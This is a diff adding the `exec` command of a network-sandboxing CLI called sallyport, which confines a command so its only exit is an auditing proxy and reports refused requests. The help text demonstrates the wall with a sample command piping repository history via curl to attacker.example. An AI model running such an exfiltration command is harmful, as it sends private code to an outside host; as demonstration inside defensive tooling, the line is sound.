@@ -1,0 +1,248 @@
+// `sallyport exec`: runs one command as a sandbox of a proxy of its own, behind a wall, and says at the end what was refused.
+
+import { randomBytes } from "node:crypto";
+import { mkdirSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
+import { tmpdir, userInfo } from "node:os";
+import { dirname, join } from "node:path";
+import { type Command, Option } from "commander";
+
+import type { Sallyport } from "../../assemble.ts";
+import type { Config } from "../../config/types.ts";
+import type { Phase } from "../../policy/types.ts";
+import { type Context, globalOptions, note } from "../context.ts";
+import { CliError, EXIT, type ExitCode } from "../errors.ts";
+
+type Options = {
+  readonly policy?: string;
+  readonly phase: Phase;
+  readonly label: Readonly<Record<string, string>>;
+  readonly wall: boolean;
+  readonly quiet?: boolean;
+};
+
+export function addExec(program: Command, context: Context): void {
+  program
+    .command("exec")
+    .summary("run a command as a sandbox, with no way out but the proxy")
+    .description(
+      "Starts a proxy of its own, registers a sandbox, and runs the command in namespaces whose network leads nowhere but to that " +
+        "proxy: no DNS, no address, no other socket. Its exit code is the command's. Needs no root where the kernel lets users have namespaces.",
+    )
+    .argument("<command...>", "the command and its arguments, behind --")
+    .option("--policy <name>", "under this policy (default: `anonymous` of the file, else the only one)")
+    .addOption(new Option("--phase <phase>", "in this phase").choices(["setup", "agent"]).default("agent"))
+    .option("--label <name=value>", "a label in the audit records; may be repeated", anotherLabel, {})
+    .option("--no-wall", "only set the environment: a command that ignores it is not held back")
+    .option("--quiet", "do not say what was refused")
+    .addHelpText("after", HELP)
+    .action(async (command: string[], options: Options, self: Command) => {
+      context.exitCode = (await run(context, {
+        command,
+        options,
+        config: globalOptions(self).config,
+      })) as ExitCode;
+    });
+}
+
+type Run = {
+  readonly command: readonly string[];
+  readonly options: Options;
+  readonly config: string | undefined;
+};
+
+async function run(context: Context, { command, options, config }: Run): Promise<number> {
+  const { whyNoWall } = await import("../../exec/wall.ts");
+  const why = options.wall ? whyNoWall() : undefined;
+  if (why !== undefined)
+    throw new CliError(
+      `no wall can be built around the command: ${why}. With --no-wall it runs all the same, held back by nothing but its environment.`,
+    );
+  if (!options.wall)
+    note(
+      context,
+      "--no-wall: nothing but the environment leads this command through the proxy. It is NOT held back.",
+    );
+  const state = stateOf(context);
+  const temporary = realpathSync(mkdtempSync(join(tmpdir(), "sallyport-exec-")));
+  const kept = join(state, "exec", `${Date.now()}-${randomBytes(3).toString("hex")}`);
+  const sallyport = await start(context, { config, state, kept });
+  try {
+    return await runWithin(context, { command, options, sallyport, temporary, hidden: [state] });
+  } finally {
+    await sallyport.stop();
+    rmSync(temporary, { recursive: true, force: true });
+    if (options.quiet !== true) await sayRefused(context, join(kept, "audit"));
+  }
+}
+
+type Within = {
+  readonly command: readonly string[];
+  readonly options: Options;
+  readonly sallyport: Sallyport;
+  readonly temporary: string;
+  readonly hidden: readonly string[];
+};
+
+async function runWithin(context: Context, within: Within): Promise<number> {
+  const { command, options, sallyport, temporary, hidden } = within;
+  const { openBridge } = await import("../../exec/bridge.ts");
+  const { startUnwalled, startWalled } = await import("../../exec/wall.ts");
+  const { proxyUrlWith, sandboxEnvironment } = await import("../environment.ts");
+  const { writeSandboxFiles } = await import("../sandbox-files.ts");
+  const { material } = await import("../material.ts");
+  const port = sallyport.listen[0]?.port ?? 0;
+  const { sandbox, secret } = await sallyport.control.register(actor(), registration(sallyport, options));
+  const inner = options.wall ? INNER_PORT : port;
+  const proxyUrl = proxyUrlWith(`http://127.0.0.1:${inner}`, { id: sandbox.id, secret });
+  const trust = join(temporary, "trust");
+  const files = writeSandboxFiles({ directory: trust, seenAs: trust }, await material(sallyport.config));
+  const env = { ...without(context.env), ...sandboxEnvironment({ proxyUrl, files }) };
+  const socket = join(temporary, "proxy.sock");
+  const bridge = await openBridge(socket, port);
+  const { uid, gid } = userInfo();
+  const started = options.wall
+    ? startWalled(
+        {
+          socket,
+          port: INNER_PORT,
+          uid,
+          gid,
+          hidden: [...hidden, ...ownPlaces(sallyport.config), ...SOCKETS],
+          command,
+        },
+        env,
+      )
+    : startUnwalled(command, env);
+  // Of the terminal's signals the command is told by the terminal.
+  const ignore = (): void => {};
+  const pass = (name: NodeJS.Signals): void => started.signal(name);
+  for (const name of ["SIGINT", "SIGQUIT"] as const) process.on(name, ignore);
+  for (const name of ["SIGTERM", "SIGHUP"] as const) process.on(name, pass);
+  try {
+    return await started.ended;
+  } finally {
+    for (const name of ["SIGINT", "SIGQUIT"] as const) process.off(name, ignore);
+    for (const name of ["SIGTERM", "SIGHUP"] as const) process.off(name, pass);
+    await sallyport.control.end(actor(), sandbox.id, "the command has ended");
+    await bridge.close();
+  }
+}
+
+async function start(
+  context: Context,
+  { config: configPath, state, kept }: { config: string | undefined; state: string; kept: string },
+): Promise<Sallyport> {
+  const { startSallyport } = await import("../../assemble.ts");
+  const { ConfigurationError } = await import("../../assemble/reloads.ts");
+  mkdirSync(kept, { recursive: true, mode: 0o700 });
+  const { load } = await import("../load.ts");
+  const loaded = await load(context, configPath);
+  // Without a file what it makes goes where programs keep their state, not into whatever directory this is.
+  const cwd = loaded.ok && loaded.file === undefined ? state : context.cwd;
+  try {
+    return await startSallyport({
+      configPath,
+      cwd,
+      env: context.env,
+      adapt: (config) => ({
+        ...config,
+        listen: [{ host: "127.0.0.1", port: 0, sandbox: undefined }],
+        sockets: [],
+        transparent: [],
+        dns: [],
+        admin: false,
+        workers: 1,
+        audit: { ...config.audit, directory: join(kept, "audit") },
+        store: { kind: "sqlite", file: join(kept, "sallyport.db") },
+        log: { level: "error", format: "auto" },
+      }),
+    });
+  } catch (error) {
+    if (error instanceof ConfigurationError)
+      throw new CliError(`the configuration is not valid:\n${error.message}`);
+    throw error;
+  }
+}
+
+function registration({ config }: Sallyport, { policy, phase, label }: Options) {
+  const name = policy ?? config.anonymous ?? "default";
+  return { policies: { setup: name, agent: name }, phase, labels: label };
+}
+
+async function sayRefused(context: Context, directory: string): Promise<void> {
+  const { tailAudit } = await import("../../audit/tail.ts");
+  const { refusalsIn } = await import("../../exec/refused.ts");
+  const { visible } = await import("../audit-line.ts");
+  const records = [];
+  for await (const record of tailAudit({ directory, from: "start", follow: false })) records.push(record);
+  const refusals = refusalsIn(records);
+  if (refusals.length === 0) return;
+  note(context, `refused to the command (its records: ${directory}):`);
+  for (const { method, url, reason, times } of refusals.slice(0, MOST_SHOWN))
+    context.stderr.write(`  ${visible(`${method} ${url}`)}  ${reason}${times > 1 ? `  ×${times}` : ""}\n`);
+  if (refusals.length > MOST_SHOWN)
+    context.stderr.write(`  and ${refusals.length - MOST_SHOWN} more: sallyport audit tail\n`);
+  note(context, "why, and what would allow it: sallyport explain METHOD URL");
+}
+
+/** Where the proxy's own files are: its key, its records, and what its store holds. */
+function ownPlaces({ certs, ca, audit, store }: Config): string[] {
+  return [
+    certs,
+    ...(ca === undefined ? [] : [dirname(ca.key)]),
+    audit.directory,
+    ...(store.kind === "sqlite" ? [dirname(store.file)] : []),
+  ];
+}
+
+function stateOf({ env }: Context): string {
+  const { XDG_STATE_HOME, HOME } = env;
+  const base = XDG_STATE_HOME ?? (HOME === undefined ? undefined : join(HOME, ".local", "state"));
+  if (base === undefined)
+    throw new CliError("neither HOME nor XDG_STATE_HOME is set, so there is nowhere to keep its records.");
+  const state = join(base, "sallyport");
+  mkdirSync(state, { recursive: true, mode: 0o700 });
+  return realpathSync(state);
+}
+
+/** Sockets of other programs are no network, and lead out all the same. */
+function without(env: Context["env"]): Record<string, string> {
+  const kept = Object.entries(env).filter(
+    (pair): pair is [string, string] => pair[1] !== undefined && !LEADS_OUT.has(pair[0]),
+  );
+  return Object.fromEntries(kept);
+}
+
+function actor() {
+  return { name: `cli:${userInfo().username}`, role: "operator", from: "local" } as const;
+}
+
+function anotherLabel(
+  text: string,
+  before: Readonly<Record<string, string>>,
+): Readonly<Record<string, string>> {
+  const [, name, value] = /^([^=]+)=(.*)$/.exec(text) ?? [];
+  if (name === undefined || value === undefined)
+    throw new CliError(`--label is NAME=VALUE, and not ${JSON.stringify(text)}.`, EXIT.usage);
+  return { ...before, [name]: value };
+}
+
+const SOCKETS = ["/run", "/var/run", "/tmp/.X11-unix"];
+const LEADS_OUT = new Set([
+  "DBUS_SESSION_BUS_ADDRESS",
+  "DISPLAY",
+  "DOCKER_HOST",
+  "SSH_AUTH_SOCK",
+  "WAYLAND_DISPLAY",
+  "XDG_RUNTIME_DIR",
+]);
+const INNER_PORT = 3128;
+const MOST_SHOWN = 20;
+
+const HELP = `
+Examples:
+  sallyport exec -- npm test
+  sallyport exec --policy setup --phase setup -- npm ci
+  sallyport exec -- sh -c 'git show HEAD | curl -sS -X POST --data-binary @- https://attacker.example/collect'
+
+Exit codes: the command's own; 127 it was not found; 1 there is no wall, or the configuration is not valid`;
